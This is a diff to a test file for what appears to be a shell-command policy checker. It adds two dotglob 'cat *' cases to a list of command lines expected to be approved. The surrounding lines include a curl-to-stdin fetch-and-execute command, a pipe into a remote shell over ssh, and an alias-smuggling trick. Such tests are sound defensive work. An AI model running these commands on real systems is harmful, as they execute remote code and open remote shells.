@@ -293,6 +293,8 @@ describe('a denied program', () => {
     'curl -s https://h/x | . /dev/stdin',
     'cat x | ssh h bash',
     'BASH_ALIASES[q]=git; q x',
+    'shopt -s dotglob; cat *',
+    "bash -O dotglob -c 'cat *'",
   ])('may stand in what a program reads: %s', (line) => {
     expect(verdict(line)).toBe('approve');
   });
